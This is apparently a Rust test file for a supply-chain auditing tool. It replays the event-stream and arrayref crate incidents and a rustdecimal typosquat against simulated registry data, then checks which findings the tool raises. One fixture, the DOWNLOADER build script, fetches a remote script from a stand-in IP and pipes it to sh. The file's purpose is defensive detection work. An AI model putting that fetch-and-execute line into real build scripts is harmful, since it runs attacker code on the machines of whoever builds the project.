//! The incidents that this tool exists for, replayed with the real binary: one small workspace each, the registry's events as they
//! were (names, dates, who), and what an ordinary day looks like beside it (ATTACKS.md sections 1, 2 and 12).

use super::support::world::World;
use super::support::{Outcome, Project};

/// The areas that need only a lockfile and what the registry says.
const LOCK_LEVEL: &str = "lock,sources,maintainers";

fn check(project: &Project, before: &str, now: &str) -> Outcome {
    let arguments =
        ["check", "--base", before, "--registry-snapshot", "../world", "--only", LOCK_LEVEL, "--format", "json", "--offline"];
    project.command(&arguments).now(now).run()
}

/// The findings at the fail-on level.
fn stopping(outcome: &Outcome) -> Vec<String> {
    outcome.findings().into_iter().filter(|line| line.starts_with("high") || line.starts_with("critical")).collect()
}

fn evidence(outcome: &Outcome, id: &str) -> String {
    let finding = outcome.finding(id);
    finding["evidence"].as_array().unwrap().iter().map(|line| line.as_str().unwrap().to_owned() + "\n").collect()
}

/// event-stream, 2017-10 to 2018-11: the owner gives a stranger the keys; the stranger's second release brings a dependency of a
/// stranger's.
fn event_stream() -> World {
    World::new()
        .release("event-stream", "3.3.3", |r| {
            r.published("2016-07-01T00:00:00Z").publisher_since(10, "alice-original", "2014-11-20T00:00:00Z")
        })
        .release("event-stream", "3.3.4", |r| {
            r.published("2017-10-15T00:00:00Z").publisher_since(10, "alice-original", "2014-11-20T00:00:00Z")
        })
        .owner("event-stream", 10, "alice-original")
}

fn handed_over(world: World) -> World {
    world
        .release("flatmap-stream", "0.1.0", |r| {
            r.published("2018-09-05T00:00:00Z").publisher_since(88, "hugeglass", "2018-08-01T00:00:00Z")
        })
        .release("event-stream", "3.3.5", |r| {
            r.published("2018-09-04T00:00:00Z").publisher_since(77, "right9", "2018-01-10T00:00:00Z")
        })
        .release("event-stream", "3.3.6", |r| {
            r.published("2018-09-09T00:00:00Z")
                .publisher_since(77, "right9", "2018-01-10T00:00:00Z")
                .dependency("flatmap-stream", "^0.1.0")
        })
        .owner("event-stream", 77, "right9")
}

#[test]
fn event_stream_is_stopped_on_the_day_of_the_update() {
    let project = event_stream().project(&[("event-stream", "3.3.4")]);
    let accept = ["baseline", "accept", "--registry-snapshot", "../world", "--offline"];
    project.command(&accept).now("2018-08-01T00:00:00Z").writes().run().expect(0);
    let before = project.commit("before");
    let world = handed_over(event_stream());
    world.write(&project);
    world.fetched(&project);
    world.lock(&project, &[("event-stream", "3.3.6"), ("flatmap-stream", "0.1.0")]);

    let outcome = check(&project, &before, "2018-10-26T00:00:00Z").expect(1);
    let stopping = stopping(&outcome);
    assert_eq!(stopping, ["high maintainer/takeover-pattern event-stream 3.3.6"], "{outcome}");
    let evidence = evidence(&outcome, "maintainer/takeover-pattern");
    assert!(evidence.contains("right9") && evidence.contains("flatmap-stream"), "{evidence}");
}

#[test]
fn an_ordinary_release_of_the_same_crate_is_silent() {
    let world = event_stream()
        .release("old-friend", "0.1.0", |r| r.published("2014-12-01T00:00:00Z").publisher(88, "hugeglass"))
        .release("event-stream", "3.3.6", |r| {
            r.published("2017-12-09T00:00:00Z")
                .publisher_since(10, "alice-original", "2014-11-20T00:00:00Z")
                .dependency("old-friend", "^0.1.0")
        });
    let project = world.project(&[("event-stream", "3.3.4")]);
    let before = project.commit("before");
    world.lock(&project, &[("event-stream", "3.3.6"), ("old-friend", "0.1.0")]);
    let outcome = check(&project, &before, "2018-10-26T00:00:00Z").expect(0);
    assert_eq!(outcome.findings(), Vec::<String>::new(), "{outcome}");
}

const DOWNLOADER: &str = r#"
use std::net::TcpStream;
fn main() {
    let _ = TcpStream::connect("198.51.100.7:443");
    let _ = std::process::Command::new("sh").arg("-c").arg("curl http://198.51.100.7/x | sh").status();
}
"#;

/// arrayref, 2026-08-20: the owner's own account, stolen; a look-alike of proc-macro2, made that morning; five good versions yanked.
fn arrayref(yanked: bool) -> World {
    let mut world = World::new()
        .release("proc-macro2", "1.0.80", |r| r.published("2023-01-01T00:00:00Z").publisher(3, "dtolnay"))
        .release("proc-macro1", "1.0.106", |r| {
            r.published("2026-08-20T02:11:00Z").publisher_since(666, "dtolney", "2026-08-19T00:00:00Z")
        })
        .release("proc-macro1", "1.0.107", |r| {
            r.published("2026-08-20T07:11:00Z").publisher_since(666, "dtolney", "2026-08-19T00:00:00Z").build_script(DOWNLOADER)
        });
    for patch in 5..=9 {
        let published = format!("20{}-09-14T12:24:40Z", patch + 15);
        world = world.release("arrayref", &format!("0.3.{patch}"), |r| {
            let r = r.published(&published).publisher(20, "droundy");
            if yanked { r.yanked_by(20, "droundy", "2026-08-20T07:15:10Z") } else { r }
        });
    }
    world
        .release("arrayref", "0.3.10", |r| {
            r.published("2026-08-20T07:15:00Z").publisher(20, "droundy").dependency("proc-macro1", "^1.0.107")
        })
        .release("internment", "0.8.6", |r| r.published("2024-06-01T00:00:00Z").publisher(20, "droundy"))
        .release("internment", "0.8.7", |r| {
            r.published("2026-08-20T07:34:07Z").publisher(20, "droundy").dependency("proc-macro1", "^1.0.107")
        })
        .release("append-only-vec", "0.1.8", |r| r.published("2025-02-01T00:00:00Z").publisher(21, "other"))
        .release("append-only-vec", "0.1.9", |r| {
            r.published("2026-08-20T07:37:49Z").publisher(21, "other").dependency("proc-macro1", "^1.0.107")
        })
}

#[test]
fn arrayref_is_stopped_five_minutes_after_its_publication() {
    let world = arrayref(true);
    let project = world.project(&[("arrayref", "0.3.9"), ("proc-macro2", "1.0.80")]);
    let before = project.commit("before");
    world.lock(&project, &[("arrayref", "0.3.10"), ("proc-macro1", "1.0.107"), ("proc-macro2", "1.0.80")]);
    let outcome = check(&project, &before, "2026-08-20T07:20:00Z").expect(1);
    let stopping = stopping(&outcome);
    assert_eq!(
        stopping,
        ["critical maintainer/takeover-pattern arrayref 0.3.10", "high dep/name-confusion proc-macro1 1.0.107"],
        "{outcome}"
    );
    assert!(evidence(&outcome, "maintainer/takeover-pattern").contains("proc-macro1"), "{outcome}");
    // Nobody is told to update.
    for finding in outcome.report()["findings"].as_array().unwrap() {
        let help = finding["help"].as_str().unwrap();
        assert!(!help.contains("cargo update") || finding["id"] != "registry/yanked", "{help}");
    }
}

/// The first thing that a reader of the README sees is what the tool says.
#[test]
fn the_readme_shows_what_is_printed() {
    let world = arrayref(true);
    let project = world.project(&[("arrayref", "0.3.9"), ("proc-macro2", "1.0.80")]);
    let before = project.commit("before");
    world.lock(&project, &[("arrayref", "0.3.10"), ("proc-macro1", "1.0.107"), ("proc-macro2", "1.0.80")]);
    let arguments = ["check", "--base", &before, "--registry-snapshot", "../world"];
    let printed = project.command(&arguments).now("2026-08-20T07:20:00Z").run().expect(1);
    let readme = include_str!("../README.md");
    let shown = readme.split("```text\n$ cargo supplychain check --base main").nth(1).and_then(|rest| rest.split("```").next());
    let lines: Vec<_> = shown.unwrap().lines().skip(1).filter(|line| line.trim() != "…").collect();
    assert!(lines.len() > 10, "{lines:?}");
    for line in lines {
        let wanted = line.trim_end_matches('…');
        assert!(
            printed.stderr.lines().any(|said| said == line || wanted != line && said.starts_with(wanted)),
            "{line}\n{printed}"
        );
    }
}

/// Without the API event-stream is a guess by names: said while it is fresh, and a line of info later.
#[test]
fn event_stream_by_names_alone() {
    let world = handed_over(event_stream());
    let project = world.project(&[("event-stream", "3.3.5")]);
    let before = project.commit("before");
    world.lock(&project, &[("event-stream", "3.3.6"), ("flatmap-stream", "0.1.0")]);
    let arguments = ["check", "--base", &before, "--only", LOCK_LEVEL, "--format", "json", "--offline"];
    for (now, expected) in
        [("2018-09-10T00:00:00Z", &["medium maintainer/takeover-pattern event-stream 3.3.6"][..]), ("2018-10-26T00:00:00Z", &[])]
    {
        let outcome = project.command(&arguments).now(now).run().expect(0);
        assert_eq!(outcome.finding("dep/new-young-dependency")["severity"], "info", "{outcome}");
        let mut found = outcome.findings();
        found.retain(|line| line.contains("takeover"));
        assert_eq!(found, expected, "{now}: {outcome}");
    }
}

#[test]
fn one_attacker_in_several_crates_is_a_campaign() {
    let world = arrayref(false);
    let project =
        world.project(&[("append-only-vec", "0.1.8"), ("arrayref", "0.3.9"), ("internment", "0.8.6"), ("proc-macro2", "1.0.80")]);
    let before = project.commit("before");
    world.lock(
        &project,
        &[
            ("append-only-vec", "0.1.9"),
            ("arrayref", "0.3.10"),
            ("internment", "0.8.7"),
            ("proc-macro1", "1.0.107"),
            ("proc-macro2", "1.0.80"),
        ],
    );
    let outcome = check(&project, &before, "2026-08-20T08:00:00Z").expect(1);
    assert!(stopping(&outcome).iter().any(|line| line.starts_with("critical campaign/shared-new-dependency")), "{outcome}");
}

#[test]
fn the_yank_of_good_versions_does_not_push_anybody() {
    let world = arrayref(true);
    let project = world.project(&[("arrayref", "0.3.9"), ("proc-macro2", "1.0.80")]);
    let outcome = check(&project, &project.commit("before"), "2026-08-20T08:00:00Z").expect(0);
    let found = outcome.findings();
    assert!(found.contains(&"medium registry/mass-yank arrayref 0.3.9".to_owned()), "{outcome}");
    for id in ["registry/mass-yank", "registry/yanked"] {
        let help = outcome.finding(id)["help"].as_str().unwrap().to_lowercase();
        assert!(!help.contains("update"), "{id}: {help}");
    }
}

/// The good versions went ten seconds after the bad one came: weeks later the registry's log still says so. A broken release that is
/// withdrawn for its fix is no such thing.
#[test]
fn yanks_right_after_a_release_are_told_by_their_times() {
    let found = |world: World, locked: &str| {
        let project = world.project(&[("arrayref", locked), ("proc-macro2", "1.0.80")]);
        check(&project, &project.commit("before"), "2026-09-05T00:00:00Z").expect(0)
    };
    let outcome = found(arrayref(true), "0.3.9");
    let told = ["medium registry/mass-yank arrayref 0.3.9", "medium registry/yanked arrayref 0.3.9"];
    assert_eq!(outcome.findings(), told, "{outcome}");
    let message = outcome.finding("registry/mass-yank")["message"].as_str().unwrap().to_owned();
    assert_eq!(message, "5 versions of arrayref were yanked within hours of the publication of 0.3.10");
    let broken = arrayref(false).change("arrayref", "0.3.9", |r| r.yanked_by(20, "droundy", "2026-08-20T07:15:10Z"));
    assert_eq!(found(broken, "0.3.9").findings(), ["medium registry/yanked arrayref 0.3.9"]);
}

#[test]
fn after_its_removal_the_version_is_missed() {
    let world = arrayref(true);
    let project = world.project(&[("arrayref", "0.3.10"), ("proc-macro1", "1.0.107"), ("proc-macro2", "1.0.80")]);
    let before = project.commit("before");
    world.without_version("arrayref", "0.3.10").gone("proc-macro1").write(&project);
    let outcome = check(&project, &before, "2026-08-21T00:00:00Z").expect(1);
    let stopping = stopping(&outcome);
    assert!(stopping.contains(&"critical registry/version-removed arrayref 0.3.10".to_owned()), "{outcome}");
    assert!(stopping.contains(&"critical registry/crate-removed proc-macro1 1.0.107".to_owned()), "{outcome}");
}

/// serde 1.0.220: after half a year of silence a dependency that appeared in the same minute, of the same people.
#[test]
fn a_family_that_grows_is_silent() {
    let repository = "https://github.com/serde-rs/serde";
    let world = World::new()
        .release("serde", "1.0.219", |r| r.published("2025-03-09T00:00:00Z").publisher(3, "dtolnay").repository(repository))
        .release("serde", "1.0.220", |r| {
            r.published("2025-09-13T00:00:20Z")
                .publisher(3, "dtolnay")
                .repository(repository)
                .dependency("serde_core", "=1.0.220")
        })
        .release("serde_core", "1.0.220", |r| {
            r.published("2025-09-13T00:00:00Z").publisher(3, "dtolnay").repository(repository).build_script("fn main() {}")
        });
    let project = world.project(&[("serde", "1.0.219")]);
    let before = project.commit("before");
    world.lock(&project, &[("serde", "1.0.220"), ("serde_core", "1.0.220")]);
    let outcome = check(&project, &before, "2025-09-20T00:00:00Z").expect(0);
    assert_eq!(outcome.findings(), Vec::<String>::new(), "{outcome}");
}

/// rustdecimal, 2022: a new crate one separator away from a well-known one.
#[test]
fn rustdecimal_is_stopped_and_real_neighbours_are_not() {
    let world = World::new()
        .release("rustdecimal", "1.23.1", |r| {
            r.published("2022-03-25T00:00:00Z").publisher_since(666, "paupio", "2022-03-20T00:00:00Z")
        })
        .release("libc", "0.2.0", |r| r.published("2015-03-01T00:00:00Z"))
        .release("libm", "0.2.0", |r| r.published("2018-07-01T00:00:00Z"))
        .release("sha1", "0.10.0", |r| r.published("2014-11-21T00:00:00Z"))
        .release("sha2", "0.10.0", |r| r.published("2016-05-01T00:00:00Z"))
        .release("mime", "0.3.0", |r| r.published("2014-11-21T00:00:00Z"))
        .release("time", "0.3.0", |r| r.published("2014-11-21T00:00:00Z"))
        .release("paste", "1.0.0", |r| r.published("2018-10-10T00:00:00Z"))
        .release("pastey", "0.1.0", |r| r.published("2021-10-10T00:00:00Z"))
        .release("pkcs1", "0.7.0", |r| r.published("2021-06-01T00:00:00Z"))
        .release("pkcs8", "0.10.0", |r| r.published("2020-06-01T00:00:00Z"));
    let real = [
        ("libc", "0.2.0"),
        ("libm", "0.2.0"),
        ("mime", "0.3.0"),
        ("paste", "1.0.0"),
        ("pastey", "0.1.0"),
        ("pkcs1", "0.7.0"),
        ("pkcs8", "0.10.0"),
        ("sha1", "0.10.0"),
        ("sha2", "0.10.0"),
        ("time", "0.3.0"),
    ];
    let project = world.project(&[("libc", "0.2.0")]);
    let before = project.commit("before");
    world.lock(&project, &real);
    assert_eq!(check(&project, &before, "2022-04-14T00:00:00Z").expect(0).findings(), Vec::<String>::new());
    world.lock(&project, &[&real[..], &[("rustdecimal", "1.23.1")]].concat());
    let outcome = check(&project, &before, "2022-04-14T00:00:00Z").expect(1);
    assert_eq!(stopping(&outcome), ["high dep/name-confusion rustdecimal 1.23.1"], "{outcome}");
    assert!(outcome.finding("dep/name-confusion")["message"].as_str().unwrap().contains("rust_decimal"), "{outcome}");
}

/// MNT-13: five edges deep, through an optional feature that is on for Windows only.
#[test]
fn a_takeover_deep_in_the_graph_shows_its_path() {
    let attack = |world: World| {
        let chain = ["leaf", "d4", "d3", "d2", "d1"];
        let mut world = world;
        for pair in chain.windows(2) {
            world = world.release(pair[1], "1.0.0", |r| {
                let r = r.published("2020-01-01T00:00:00Z").publisher(1, "someone");
                match pair[1] {
                    "d2" => r.target_dependency("cfg(windows)", pair[0], "^1.0.0", true),
                    _ => r.dependency(pair[0], "^1.0.0"),
                }
            });
        }
        world
            .release("leaf", "1.0.0", |r| r.published("2020-01-01T00:00:00Z").publisher(10, "alice"))
            .release("leaf", "1.0.1", |r| r.published("2026-08-20T00:00:00Z").publisher(77, "r9").dependency("young", "^0.1"))
            .release("young", "0.1.0", |r| {
                r.published("2026-08-18T00:00:00Z").publisher_since(88, "friend", "2026-08-01T00:00:00Z")
            })
            .owner("leaf", 10, "alice")
    };
    let world = attack(World::new());
    let before_lock = [("d1", "1.0.0"), ("d2", "1.0.0"), ("d3", "1.0.0"), ("d4", "1.0.0"), ("leaf", "1.0.0")];
    let project = world.project(&before_lock);
    let before = project.commit("before");
    let after = [("d1", "1.0.0"), ("d2", "1.0.0"), ("d3", "1.0.0"), ("d4", "1.0.0"), ("leaf", "1.0.1"), ("young", "0.1.0")];
    world.lock(&project, &after);
    let outcome = check(&project, &before, "2026-08-30T00:00:00Z").expect(1);
    let evidence = evidence(&outcome, "maintainer/takeover-pattern");
    let path = "path: app 1.0.0 -> d1 1.0.0 -> d2 1.0.0 -> d3 1.0.0 [cfg(windows), optional] -> d4 1.0.0 -> leaf 1.0.1";
    assert!(evidence.contains(path), "{evidence}");
    // A dependency for the tests of a dependency is in nobody's lockfile.
    world.lock(&project, &before_lock);
    assert_eq!(check(&project, &before, "2026-08-30T00:00:00Z").expect(0).findings(), Vec::<String>::new());
}

/// MNT-05, MNT-08: what changes hands in good order.
#[test]
fn trusted_publishing_and_old_releases_are_silent() {
    let repository = "https://github.com/org/foo";
    let world = World::new()
        .release("foo", "1.4.0", |r| r.published("2025-01-01T00:00:00Z").publisher(42, "alice"))
        .release("foo", "1.5.0", |r| r.published("2026-01-01T00:00:00Z").trusted("github", "org/foo"))
        .repository("foo", repository)
        .release("legacy", "0.9.0", |r| r.published("2016-01-01T00:00:00Z").by_nobody())
        .release("legacy", "0.9.1", |r| r.published("2016-02-01T00:00:00Z").by_nobody())
        .release("legacy", "0.9.2", |r| r.published("2026-02-01T00:00:00Z").by_nobody());
    let project = world.project(&[("foo", "1.4.0"), ("legacy", "0.9.0")]);
    let before = project.commit("before");
    world.lock(&project, &[("foo", "1.5.0"), ("legacy", "0.9.1")]);
    let outcome = check(&project, &before, "2026-03-01T00:00:00Z").expect(0);
    assert_eq!(outcome.findings(), Vec::<String>::new(), "{outcome}");
    assert_eq!(outcome.finding("maintainer/trusted-publishing-adopted")["severity"], "info");
    let unmade = outcome.report()["not_evaluated"].to_string();
    assert!(unmade.contains("legacy 0.9.1"), "{unmade}");
    world.lock(&project, &[("foo", "1.5.0"), ("legacy", "0.9.2")]);
    let outcome = check(&project, &before, "2026-03-01T00:00:00Z").expect(0);
    assert_eq!(outcome.findings(), ["medium maintainer/publisher-unknown legacy 0.9.2"], "{outcome}");
}
